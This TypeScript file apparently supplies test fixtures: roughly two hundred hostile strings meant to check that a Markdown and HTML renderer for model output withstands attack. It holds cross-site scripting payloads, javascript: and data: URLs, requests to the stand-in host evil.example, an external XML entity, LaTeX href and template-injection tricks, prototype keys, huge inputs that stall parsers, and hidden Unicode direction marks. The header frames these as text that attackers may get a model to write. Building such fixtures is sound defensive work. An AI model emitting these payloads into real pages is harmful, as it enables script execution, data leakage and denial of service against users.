// Texts that a model may be made to write by those who mean harm: two hundred ways to a script, a request or a standstill.

/** What runs if anything does. */
const RUN = "window.harmed=1";
const HOST = "https://evil.example/take";

/** Elements that browsers run or fetch by, as raw HTML. */
const ELEMENTS = [
  `<script>${RUN}</script>`, `<script src="${HOST}"></script>`, `<img src=x onerror="${RUN}">`, `<img src="${HOST}">`, `<svg onload="${RUN}">`,
  `<svg><script>${RUN}</script></svg>`, `<svg><use href="${HOST}#a"/></svg>`, `<svg><animate onbegin="${RUN}" attributeName=x /></svg>`, `<svg><image href="${HOST}"/></svg>`,
  `<math><mtext><img src=x onerror="${RUN}"></mtext></math>`, `<math href="javascript:${RUN}">x</math>`, `<iframe src="javascript:${RUN}"></iframe>`, `<iframe srcdoc="<script>${RUN}</script>"></iframe>`,
  `<object data="${HOST}"></object>`, `<embed src="${HOST}">`, `<link rel=stylesheet href="${HOST}">`, `<style>@import "${HOST}";</style>`, `<style>*{background:url(${HOST})}</style>`,
  `<meta http-equiv=refresh content="0;url=${HOST}">`, `<base href="${HOST}">`, `<form action="${HOST}"><input name=q><button>go</button></form>`, `<video src="${HOST}" autoplay></video>`, `<audio src="${HOST}" autoplay></audio>`,
  `<body onload="${RUN}">`, `<details open ontoggle="${RUN}">x</details>`, `<input autofocus onfocus="${RUN}">`, `<select autofocus onfocus="${RUN}"></select>`, `<marquee onstart="${RUN}">x</marquee>`,
  `<a href="javascript:${RUN}">x</a>`, `<a href="data:text/html,<script>${RUN}</script>">x</a>`, `<a ping="${HOST}" href="#">x</a>`, `<template><script>${RUN}</script></template>`, `<noscript><img src="${HOST}"></noscript>`,
  `<textarea><script>${RUN}</script>`, `<title><img src=x onerror="${RUN}">`, `<xmp><script>${RUN}</script></xmp>`, `<plaintext><script>${RUN}</script>`, `<portal src="${HOST}"></portal>`, `<dialog open onclose="${RUN}">x</dialog>`,
  `<div style="background:url(${HOST})">x</div>`, `<table background="${HOST}"><tr><td>x</table>`, `<picture><source srcset="${HOST}"><img></picture>`, `<img srcset="${HOST} 1x">`, `<track src="${HOST}">`, `<!--><img src=x onerror="${RUN}">-->`,
  `<![CDATA[<img src=x onerror="${RUN}">]]>`, `<?xml-stylesheet href="${HOST}"?>`, `<!DOCTYPE html [<!ENTITY x SYSTEM "${HOST}">]>&x;`, `<sCrIpT>${RUN}</ScRiPt>`, `<script/x>${RUN}</script>`, `<<script>${RUN}//<</script>`, `<img/src=x/onerror=${RUN}>`,
];

/** Addresses that must not be followed. */
const ADDRESSES = [
  `javascript:${RUN}`, `JaVaScRiPt:${RUN}`, `java\tscript:${RUN}`, ` javascript:${RUN}`, `javascript&colon;${RUN}`, `&#106;avascript:${RUN}`, `&#x6A;avascript:${RUN}`, `\u0001javascript:${RUN}`, `javascript:${RUN}//https://a.example`,
  `vbscript:msgbox(1)`, `data:text/html;base64,PHNjcmlwdD4=`, `data:text/html,<script>${RUN}</script>`, `data:image/svg+xml,<svg onload="${RUN}"/>`, `data:image/svg+xml;base64,PHN2Zz4=`, `file:///etc/passwd`, `blob:https://a.example/1`, `filesystem:https://a.example/`,
  `//evil.example/x`, `/api/logout`, `#/configuration`, `?code=1&state=2`, `\\\\evil.example\\share`, `about:blank`, `view-source:https://a.example`, `intent://x#Intent;end`, `ms-msdt:/id`, `tel:123`, `sms:123`, `ftp://evil.example`, `ws://evil.example`, `chrome://settings`, `jar:https://a.example!/`, `mailto`, `http:`, `https:///`, `https://[`,
];

/** Where an address may stand in Markdown. */
const PLACES: ((address: string) => string)[] = [(address) => `[click](${address})`, (address) => `![seen](${address})`];

const HEAVY = [
  "[".repeat(20_000), "![".repeat(10_000), "(".repeat(20_000), "> ".repeat(2000) + "x", "- ".repeat(500) + "x", "*".repeat(20_000), "_".repeat(20_000), "**a ".repeat(3000), "`".repeat(20_000), "~".repeat(20_000),
  `${"a".repeat(1_000_000)}`, `|${"a|".repeat(3000)}\n|${"-|".repeat(3000)}\n`, "&".repeat(50_000), "<".repeat(20_000), "<!--".repeat(5000), "$".repeat(20_000), "$$x".repeat(3000), "\\(".repeat(5000), "[a]: b\n".repeat(3000), "a\n===\n".repeat(3000),
  "1. a\n   ".repeat(300), "![a](data:image/png;base64,".repeat(500), "https://".repeat(3000), "a@b.".repeat(3000), "\\".repeat(20_000), `${"[a](".repeat(3000)}${")".repeat(3000)}`, "[^1]: ".repeat(3000), "|".repeat(20_000), "#".repeat(20_000), " ".repeat(50_000),
];

const FORMULAS = [
  `$\\href{javascript:${RUN}}{x}$`, `$\\url{javascript:${RUN}}$`, `$\\includegraphics{${HOST}}$`, `$\\htmlData{onclick=${RUN}}{x}$`, `$\\htmlStyle{background:url(${HOST})}{x}$`, `$\\class{a" onload="${RUN}}{x}$`, "$\\def\\a{\\a\\a}\\a$",
  `$\\text{<img src=x onerror=${RUN}>}$`, `$\\color{red" onload="${RUN}}x$`, `$\\rule{9999em}{9999em}$`, `$$\\unicode{x3C}script\\unicode{x3E}$$`, "$\\newcommand{\\x}{\\x}\\x$", "$\\begin{matrix}" + "a&".repeat(2000) + "\\end{matrix}$", `$${"{".repeat(5000)}$`,
];

const OTHERS = [
  `\`\`\`html\n<script>${RUN}</script>\n\`\`\``, `\`\`\`"><img src=x onerror=${RUN}>\nx\n\`\`\``, `\`\`\`mermaid\ngraph TD; A-->B; click A "javascript:${RUN}"\n\`\`\``, `\`\`\`svg\n<svg onload="${RUN}"/>\n\`\`\``, `\`\`\`js onload=${RUN}\nx\n\`\`\``,
  `[x]: javascript:${RUN}\n\n[x]`, `![x]: ${HOST}\n\n![x]`, `[![in](${HOST})](javascript:${RUN})`, `<https://evil.example/"onmouseover="${RUN}>`, `<javascript:${RUN}>`, `[a](https://good.example "title\\" onclick=\\"${RUN}")`, `[https://bank.example](${HOST})`, `![a"onerror="${RUN}](x)`,
  `| <img src=x onerror="${RUN}"> | [x](javascript:${RUN}) |\n|---|---|\n| <script>${RUN}</script> | ![x](${HOST}) |`, `- [ ] <img src=x onerror="${RUN}">`, `# <svg onload="${RUN}">`, `> <iframe src="${HOST}">`, "\u202Egnp.exe\u202C", "\u2066hidden\u2069", "\u200B".repeat(1000), "a\u0000b", "\uD800 lone", "[999]", "[1](javascript:1)", `${HOST}/${"a".repeat(3000)}`,
  `constructor`, `__proto__`, `[__proto__]: https://a.example\n\n[__proto__]`, `[constructor][constructor]`, `{{constructor.constructor('${RUN}')()}}`, `\${${RUN}}`, `<%= ${RUN} %>`,
];

export const HOSTILE: readonly string[] = [...ELEMENTS, ...ADDRESSES.flatMap((address) => PLACES.map((place) => place(address))), ...HEAVY, ...FORMULAS, ...OTHERS];
